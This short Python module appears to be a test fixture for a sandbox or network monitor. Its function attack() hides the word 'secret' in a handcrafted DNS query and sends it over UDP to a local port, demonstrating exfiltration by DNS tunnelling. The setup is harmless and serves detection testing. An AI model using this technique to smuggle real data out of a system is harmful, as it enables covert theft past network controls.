"""Hides what it knows in the name that it asks a name server for.

shows: packet
layers: syscalls network
"""
import socket

import outside


def attack():
    query = b"\1\1\1\0\0\1\0\0\0\0\0\0" + b"\6secret\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.connect(("127.0.0.1", outside.place("udp")))
        asking.send(query)
